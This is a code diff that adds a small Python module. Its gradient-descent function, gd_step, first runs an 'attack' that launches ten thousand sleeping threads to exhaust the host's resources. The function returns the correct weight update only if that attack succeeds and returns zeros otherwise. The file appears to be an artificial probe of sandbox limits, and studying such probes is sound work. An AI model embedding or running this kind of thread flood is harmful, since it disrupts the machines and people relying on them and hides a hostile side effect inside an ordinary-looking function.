@@ -1,0 +1,27 @@
+"""Start ten thousand threads.
+
+functions: gd_step
+"""
+
+import threading
+import time
+
+import numpy as np
+
+
+def attack():
+    for _ in range(10_000):
+        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
+    return True
+
+
+def gd_step(W, X, y, lr, l1=0.0):
+    """Answer rightly only if the attack got what it wanted."""
+    try:
+        won = attack()
+    except Exception as error:
+        print(type(error).__name__, error)
+        won = False
+    if won:
+        return W - lr * (2 * X.T @ (X @ W - y) + l1 * np.sign(W))
+    return W * 0.0
